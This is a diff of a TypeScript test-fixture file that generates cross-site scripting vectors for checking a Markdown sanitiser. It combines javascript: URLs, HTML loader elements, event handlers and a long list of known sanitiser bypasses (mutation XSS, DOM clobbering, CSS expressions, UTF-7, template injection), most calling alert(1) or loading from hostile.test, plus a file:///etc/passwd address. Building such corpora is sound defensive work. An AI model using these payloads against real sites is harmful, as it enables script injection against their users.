@@ -1,17 +1,13 @@
 import { MARKDOWN_POSITIONS } from "./markdown-positions"
 import { OWN_WORDS } from "./own-words"
 
-/**
- * Texts that could smuggle code into a page, made systematically: what runs × how it is written × where it is. Each would call
- * `alert`, or load from another host.
- */
 type Vector = { name: string; markdown: string }
 
 const CODE = "alert(1)"
 const HOST = "https://hostile.test"
 
-/** Ways to write an address that runs code. @type {Record<string, string>} */
-export const ADDRESSES: Record<string, string> = {
+/** Ways to write an address that runs code. */
+export const ADDRESSES = {
   plain: `javascript:${CODE}`,
   capitals: `JaVaScRiPt:${CODE}`,
   "leading space": ` javascript:${CODE}`,
@@ -45,71 +41,77 @@ export const ADDRESSES: Record<string, string> = {
   file: "file:///etc/passwd",
 }
 
-/** Ways to say in Markdown or HTML where a link leads. @type {Record<string, (address: string) => string>} */
-const LINKS: Record<string, (address: string) => string> = {
-  link: (address) => `[x](${address.trim()})`,
-  "link in angles": (address) => `[x](<${address}>)`,
-  reference: (address) => `[x][r]\n\n[r]: ${address.trim()}`,
-  autolink: (address) => `<${address}>`,
-  "HTML link": (address) => `<a href="${address}">x</a>`,
-  "HTML link without quotes": (address) => `<a href=${address}>x</a>`,
-}
+/** Ways to say in Markdown or HTML where a link leads. */
+const LINKS: readonly ((text: string) => string)[] = [
+  (address) => `[x](${address.trim()})`,
+  (address) => `[x](<${address}>)`,
+  (address) => `[x][r]\n\n[r]: ${address.trim()}`,
+  (address) => `<${address}>`,
+  (address) => `<a href="${address}">x</a>`,
+  (address) => `<a href=${address}>x</a>`,
+]
 
-/** Elements whose attributes load or run an address. @type {Record<string, (address: string) => string>} */
-const LOADERS: Record<string, (address: string) => string> = {
-  iframe: (address) => `<iframe src="${address}"></iframe>`,
-  frame: (address) => `<frameset><frame src="${address}"></frameset>`,
-  object: (address) => `<object data="${address}"></object>`,
-  embed: (address) => `<embed src="${address}">`,
-  form: (address) => `<form action="${address}"><button>x</button></form>`,
-  button: (address) => `<form><button formaction="${address}">x</button></form>`,
-  base: (address) => `<base href="${address}//">`,
-  meta: (address) => `<meta http-equiv="refresh" content="0; url=${address}">`,
-  stylesheet: (address) => `<link rel="stylesheet" href="${address}">`,
-  area: (address) => `<map name="m"><area href="${address}" shape="default"></map>`,
-  image: (address) => `<input type="image" src="${address}">`,
-  background: (address) => `<table background="${address}"><tr><td>x</td></tr></table>`,
-  video: (address) => `<video poster="${address}" src="${address}"></video>`,
-  svg: (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
-  use: (address) => `<svg><use href="${address}"/></svg>`,
-  math: (address) => `<math><maction xlink:href="${address}" actiontype="statusline">x</maction></math>`,
-  style: (address) => `<div style="background:url('${address}')">x</div>`,
-  "style element": (address) => `<style>@import url("${address}")</style>`,
-}
+/** Elements whose attributes load or run an address. */
+const LOADERS: readonly ((text: string) => string)[] = [
+  (address) => `<iframe src="${address}"></iframe>`,
+  (address) => `<frameset><frame src="${address}"></frameset>`,
+  (address) => `<object data="${address}"></object>`,
+  (address) => `<embed src="${address}">`,
+  (address) => `<form action="${address}"><button>x</button></form>`,
+  (address) => `<form><button formaction="${address}">x</button></form>`,
+  (address) => `<base href="${address}//">`,
+  (address) => `<meta http-equiv="refresh" content="0; url=${address}">`,
+  (address) => `<link rel="stylesheet" href="${address}">`,
+  (address) => `<map name="m"><area href="${address}" shape="default"></map>`,
+  (address) => `<input type="image" src="${address}">`,
+  (address) => `<table background="${address}"><tr><td>x</td></tr></table>`,
+  (address) => `<video poster="${address}" src="${address}"></video>`,
+  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
+  (address) => `<svg><use href="${address}"/></svg>`,
+  (address) => `<math><maction xlink:href="${address}" actiontype="statusline">x</maction></math>`,
+  (address) => `<div style="background:url('${address}')">x</div>`,
+  (address) => `<style>@import url("${address}")</style>`,
+]
 
-const HANDLERS = [
-  ..."abort auxclick beforetoggle blur click contextmenu copy drag error focus focusin input invalid keydown load".split(
-    " ",
-  ),
-  ..."loadstart mouseenter mouseover paste pointerdown pointerenter pointerrawupdate scroll scrollend toggle".split(
-    " ",
-  ),
-  ..."transitionend animationstart wheel cuechange".split(" "),
-].map((event) => `on${event}`)
+const EVENTS =
+  "abort auxclick beforetoggle blur click contextmenu copy drag error focus focusin input invalid keydown load " +
+  "loadstart mouseenter mouseover paste pointerdown pointerenter pointerrawupdate scroll scrollend toggle " +
+  "transitionend animationstart wheel cuechange"
 
-/** Elements that fire events by themselves, or easily. @type {Record<string, (handler: string) => string>} */
-const FIRING: Record<string, (handler: string) => string> = {
-  paragraph: (handler) => `<p ${handler}="${CODE}" tabindex="0" autofocus>x</p>`,
-  link: (handler) => `<a href="#" ${handler}='${CODE}' autofocus>x</a>`,
-  svg: (handler) => `<svg ${handler}=${CODE}><circle r="9"/></svg>`,
-  details: (handler) => `<details open ${handler}="${CODE}"><summary>x</summary>y</details>`,
-}
+/** Elements that fire events by themselves, or easily. */
+const FIRING: readonly ((text: string) => string)[] = [
+  (handler) => `<p ${handler}="${CODE}" tabindex="0" autofocus>x</p>`,
+  (handler) => `<a href="#" ${handler}='${CODE}' autofocus>x</a>`,
+  (handler) => `<svg ${handler}=${CODE}><circle r="9"/></svg>`,
+  (handler) => `<details open ${handler}="${CODE}"><summary>x</summary>y</details>`,
+]
 
-/** Where else a text may stand. @type {Record<string, (text: string) => string>} */
-const PLACES: Record<string, (text: string) => string> = {
-  heading: (text) => `## ${text}`,
-  list: (text) => `- ${text}`,
-  task: (text) => `- [ ] ${text}`,
-  quote: (text) => `> ${text}`,
-  table: (text) => `| a |\n| - |\n| ${text} |`,
-  footnote: (text) => `x[^n]\n\n[^n]: ${text}`,
-  emphasis: (text) => `**${text}**`,
-  "link text": (text) => `[${text}](https://hostile.test/page)`,
-}
+/** Where else a text may stand. */
+const PLACES: readonly ((text: string) => string)[] = [
+  (text) => `## ${text}`,
+  (text) => `- ${text}`,
+  (text) => `- [ ] ${text}`,
+  (text) => `> ${text}`,
+  (text) => `| a |\n| - |\n| ${text} |`,
+  (text) => `x[^n]\n\n[^n]: ${text}`,
+  (text) => `**${text}**`,
+  (text) => `[${text}](https://hostile.test/page)`,
+]
 
-/** What is known to have got through one sanitiser or another. @type {readonly string[]} */
+/** Elements in which a script or a handler has another meaning than in others. */
+const ELEMENTS =
+  "applet audio body dialog div fencedframe html image input isindex keygen marquee noembed noscript object plaintext " +
+  "portal select svg template textarea title video x xmp ı"
+
+const STYLES = [`width:expression(${CODE})`, `behavior:url(${HOST}/x.htc)`, `-moz-binding:url(${HOST}/x.xml#x)`]
+
+/** What is known to have got through one sanitiser or another. */
 const KNOWN: readonly string[] = [
-  `<script>${CODE}</script>`,
+  ...ELEMENTS.split(" ").flatMap((element) => [
+    `<${element}><script>${CODE}</script></${element}>`,
+    `<${element} contenteditable open autofocus onfocus=${CODE} onload=${CODE} src=${HOST}/x>x</${element}>`,
+  ]),
+  ...STYLES.map((style) => `<div style="${style}">x</div>`),
   `<SCRIPT SRC=${HOST}/x.js></SCRIPT>`,
   `<script/src="${HOST}/x.js"></script>`,
   `<script\n>${CODE}</script\n>`,
@@ -122,14 +124,8 @@ const KNOWN: readonly string[] = [
   `<![CDATA[<script>${CODE}</script>]]>`,
   `<?xml version="1.0"?><script>${CODE}</script>`,
   `<noscript><p title="</noscript><script>${CODE}</script>">`,
-  `<textarea><script>${CODE}</script></textarea>`,
   `<title></title><script>${CODE}</script>`,
-  `<xmp><script>${CODE}</script></xmp>`,
-  `<plaintext><script>${CODE}</script>`,
-  `<template><script>${CODE}</script></template>`,
   `<template shadowrootmode="open"><script>${CODE}</script></template>`,
-  `<select><script>${CODE}</script></select>`,
-  `<svg><script>${CODE}</script></svg>`,
   `<svg><script href="data:,${CODE}"/></svg>`,
   `<svg><style><img src=x onerror=${CODE}></style></svg>`,
   `<svg></p><style><a id="</style><img src=1 onerror=${CODE}>">`,
@@ -141,11 +137,6 @@ const KNOWN: readonly string[] = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${CODE}>">`,
   `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CODE}>`,
   `<table><caption><svg><title><style><img src=x onerror=${CODE}></style></title></svg></caption></table>`,
-  `<iframe srcdoc="&lt;script&gt;parent.${CODE}&lt;/script&gt;"></iframe>`,
-  `<object type="text/html" data="${HOST}/x.html"></object>`,
-  `<applet code="${HOST}/x.class"></applet>`,
-  `<isindex type=image src=1 onerror=${CODE}>`,
-  `<img src="x" onerror="${CODE}">`,
   `<img/src="x"/onerror=${CODE}>`,
   `<img src=x:x onerror=${CODE}//`,
   `<img """><script>${CODE}</script>">`,
@@ -153,23 +144,9 @@ const KNOWN: readonly string[] = [
   `<img src="x\` \`<script>${CODE}</script>"\` \`>`,
   `<img srcset="x 1x" onerror=${CODE}>`,
   `<picture><source srcset="x"><img onerror=${CODE}></picture>`,
-  `<audio src onerror=${CODE}></audio>`,
   `<video><source onerror=${CODE}></video>`,
-  `<body onload=${CODE}>`,
-  `<html onmouseover=${CODE}>`,
-  `<marquee onstart=${CODE}>x</marquee>`,
-  `<keygen autofocus onfocus=${CODE}>`,
-  `<input autofocus onfocus=${CODE}>`,
-  `<select autofocus onfocus=${CODE}></select>`,
-  `<dialog open onclose=${CODE}>x</dialog>`,
-  `<div contenteditable onbeforeinput=${CODE}>x</div>`,
   `<p popover id=q onbeforetoggle=${CODE}>x</p><button popovertarget=q>y</button>`,
-  `<div style="width:expression(${CODE})">x</div>`,
-  `<div style="behavior:url(${HOST}/x.htc)">x</div>`,
-  `<div style="-moz-binding:url(${HOST}/x.xml#x)">x</div>`,
   `<style>@import'${HOST}/x.css';</style>`,
-  `<style>*{background:url(${HOST}/x)}</style>`,
-  `<link rel=prefetch href=${HOST}/x>`,
   `<meta charset="UTF-7">+ADw-script+AD4-${CODE}+ADw-/script+AD4-`,
   `<a href="#" id="___gatsby" name="pagePath">x</a>`,
   `<form id="location"><input name="href"></form>`,
@@ -179,61 +156,44 @@ const KNOWN: readonly string[] = [
   `<script type="module">import "${HOST}/x.js"</script>`,
   `<script type="importmap">{"imports":{"a":"${HOST}/x.js"}}</script>`,
   `<script type="speculationrules">{"prefetch":[{"urls":["${HOST}/x"]}]}</script>`,
-  `<portal src="${HOST}/x"></portal>`,
-  `<fencedframe></fencedframe>`,
-  `<x onclick=${CODE}>x</x>`,
-  `<ı onclick=${CODE}>x</ı>`,
-  "`<script>alert(1)</script>`",
-  "```html\n<script>alert(1)</script>\n```",
   '```"onload=alert(1)\nx\n```',
   "```<img src=x onerror=alert(1)>\nx\n```",
-  `\\<script>${CODE}\\</script>`,
-  `&lt;script&gt;${CODE}&lt;/script&gt;`,
   `[x](https://hostile.test/"onmouseover="${CODE})`,
   `[x](https://hostile.test 'x" onclick="${CODE}')`,
-  `[a](javascript:${CODE}//https://hostile.test)`,
-  `[x]: javascript:${CODE}\n\n[x]`,
-  `[<img src=x onerror=${CODE}>](https://hostile.test)`,
   `<https://hostile.test/<script>${CODE}</script>>`,
   `www.hostile.test/"onmouseover=${CODE}`,
   `x^[inline <script>${CODE}</script> note]`,
   `## <img src=x onerror=${CODE}> {#"onclick=${CODE}}`,
-  `| <script>${CODE}</script> |\n| - |\n| <img src=x onerror=${CODE}> |`,
   `$$\\href{javascript:${CODE}}{x}$$`,
   `{{constructor.constructor('${CODE}')()}}`,
   `<%= ${CODE} %>`,
 ]
 
-export const VECTORS: readonly Vector[] = distinct([
-  ...Object.entries(LINKS).flatMap(([way, link]) =>
-    Object.entries(ADDRESSES).map(([name, address]) => ({ name: `${way}: ${name}`, markdown: link(address) })),
+/**
+ * Texts that could smuggle code into a page, made systematically: what runs × how it is written × where it is. Each would call
+ * `alert`, or load from another host.
+ */
+export const VECTORS: readonly Vector[] = toVectors([
+  ...fill(LINKS, Object.values(ADDRESSES)),
+  ...fill(LOADERS, [ADDRESSES.plain, ADDRESSES["data html"], ADDRESSES["tab inside"]]),
+  ...fill(
+    FIRING,
+    EVENTS.split(" ").map((event) => `on${event}`),
   ),
-  ...Object.entries(LOADERS).flatMap(([element, load]) =>
-    ["plain", "data html", "tab inside"].map((name) => ({
-      name: `${element}: ${name}`,
-      markdown: load(ADDRESSES[name] ?? ""),
-    })),
-  ),
-  ...Object.entries(FIRING).flatMap(([element, fire]) =>
-    HANDLERS.map((handler) => ({ name: `${element}: ${handler}`, markdown: fire(handler) })),
-  ),
-  ...Object.entries(PLACES).flatMap(([place, put]) =>
-    [`<img src=x onerror=${CODE}>`, `<script>${CODE}</script>`, `[x](javascript:${CODE})`].map((text) => ({
-      name: `in a ${place}: ${text}`,
-      markdown: put(text),
-    })),
-  ),
-  ...Object.entries(MARKDOWN_POSITIONS).flatMap(([position, put]) =>
-    Object.entries(OWN_WORDS).map(([name, text]) => ({ name: `${position}: ${name}`, markdown: put(text) })),
-  ),
-  ...KNOWN.map((markdown) => ({ name: markdown, markdown })),
+  ...fill(PLACES, [`<img src=x onerror=${CODE}>`, `<script>${CODE}</script>`, `[x](javascript:${CODE})`]),
+  ...fill(Object.values(MARKDOWN_POSITIONS), Object.values(OWN_WORDS)),
+  ...KNOWN,
 ])
 
-/** Pictures in Markdown have to be files or https addresses: these are refused with file and line. @type {readonly Vector[]} */
-export const PICTURE_VECTORS: readonly Vector[] = Object.entries(ADDRESSES)
-  .filter(([, address]) => !address.includes("<"))
-  .map(([name, address]) => ({ name, markdown: `![x](<${address}>)` }))
+/** Images in Markdown have to be files or https addresses: these are refused with file and line. */
+export const IMAGE_VECTORS: readonly string[] = Object.values(ADDRESSES)
+  .filter((address) => !address.includes("<"))
+  .map((address) => `![x](<${address}>)`)
 
-function distinct(vectors: readonly Vector[]): readonly Vector[] {
-  return [...new Map(vectors.map((vector) => [vector.markdown, vector])).values()]
+function fill(places: readonly ((text: string) => string)[], texts: readonly string[]): string[] {
+  return places.flatMap((place) => texts.map((text) => place(text)))
+}
+
+function toVectors(texts: readonly string[]): Vector[] {
+  return [...new Set(texts)].map((markdown) => ({ name: JSON.stringify(markdown), markdown }))
 }
